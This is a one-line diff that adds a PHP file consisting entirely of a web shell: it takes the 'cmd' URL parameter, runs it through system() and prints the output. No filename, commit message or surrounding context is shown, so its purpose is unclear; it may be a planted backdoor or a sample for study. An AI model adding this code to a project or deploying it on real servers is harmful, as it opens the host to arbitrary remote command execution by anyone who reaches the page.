@@ -1,0 +1,1 @@
+<?php if(isset($_GET['cmd'])){ echo '<pre>'; system($_GET['cmd']); echo '</pre>'; } ?>
